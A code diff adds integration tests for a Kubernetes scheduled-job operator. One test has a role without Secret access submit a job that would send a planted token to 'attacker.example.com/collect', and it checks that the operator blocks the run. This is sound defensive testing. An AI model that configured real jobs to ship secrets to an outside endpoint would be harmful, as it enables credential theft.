@@ -59,9 +59,16 @@ def jobs(cluster: Cluster, namespace: str) -> list[dict[str, Any]]:
     return items
 
 
+def usable_secret(cluster: Cluster, namespace: str, name: str, *literals: str, usable: bool = True) -> None:
+    cluster.kubectl("-n", namespace, "create", "secret", "generic", name, *(f"--from-literal={x}" for x in literals))
+    if usable:
+        cluster.kubectl("-n", namespace, "label", "secret", name, "cronflow.dev/usable=true")
+
+
 def test_apply_creates_an_owned_hardened_cronjob_and_status(
     cluster: Cluster, namespace: str, operator: OperatorProcess
 ) -> None:
+    usable_secret(cluster, namespace, "flow-token", "token=t0k3n")
     apply(cluster, scheduledjob(namespace, flow={
         "endpoint": "https://flows.example.com/run", "authTokenSecretRef": {"name": "flow-token", "key": "token"}}))
     status = settled_status(cluster, namespace, "nightly", state="ENABLED", mode="Schedule")
@@ -336,3 +343,44 @@ def test_a_created_scheduledjob_costs_two_writes(cluster: Cluster, namespace: st
     time.sleep(3)
     writes = sorted(cluster.operator_writes(mark, namespace))
     assert writes == ["patch cronjobs/nightly", "patch scheduledjobs/statusnightly"]
+
+
+def ready_of(cluster: Cluster, namespace: str, name: str = "nightly") -> dict[str, Any]:
+    status = cluster.get_json("-n", namespace, "sj", name).get("status") or {}
+    ready: dict[str, Any] = next((c for c in status.get("conditions") or [] if c["type"] == "Ready"), {})
+    return ready
+
+
+def test_a_role_that_cannot_read_secrets_cannot_make_a_run_read_one(
+    cluster: Cluster, namespace: str, operator: OperatorProcess
+) -> None:
+    usable_secret(cluster, namespace, "team-token", "token=PLANTED-not-for-you", usable=False)
+    author = "sj-author"
+    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
+            "metadata": {"name": author, "namespace": namespace},
+            "rules": [{"apiGroups": ["cronflow.dev"], "resources": ["scheduledjobs"],
+                       "verbs": ["get", "list", "create", "patch"]}]}
+    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+               "metadata": {"name": author, "namespace": namespace},
+               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": author},
+               "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": author}]}
+    for manifest in (role, binding):
+        apply(cluster, manifest)
+    assert cluster.kubectl("--as", author, "-n", namespace, "get", "secret", "team-token", check=False).returncode != 0
+
+    stolen = scheduledjob(namespace, trigger="now", flow={
+        "endpoint": "https://attacker.example.com/collect",
+        "authTokenSecretRef": {"name": "team-token", "key": "token"}})
+    cluster.kubectl("--as", author, "apply", "-f", "-", input=json.dumps(stolen))
+    ready = wait_until("Ready=False SecretNotUsable",
+                       lambda: (r := ready_of(cluster, namespace)).get("reason") == "SecretNotUsable" and r)
+    assert "team-token" in ready["message"] and "PLANTED" not in json.dumps(ready)
+    assert cronjob(cluster, namespace)["spec"]["suspend"] is True
+    time.sleep(2)
+    assert jobs(cluster, namespace) == [], "no run may start that would read the Secret"
+    assert events_with_reason(cluster, namespace, "TriggerFailed")
+
+    cluster.kubectl("-n", namespace, "label", "secret", "team-token", "cronflow.dev/usable=true")
+    wait_until("Ready=True once the Secret is labelled", lambda: ready_of(cluster, namespace).get("status") == "True",
+               timeout=45)
+    assert cronjob(cluster, namespace)["spec"]["suspend"] is False
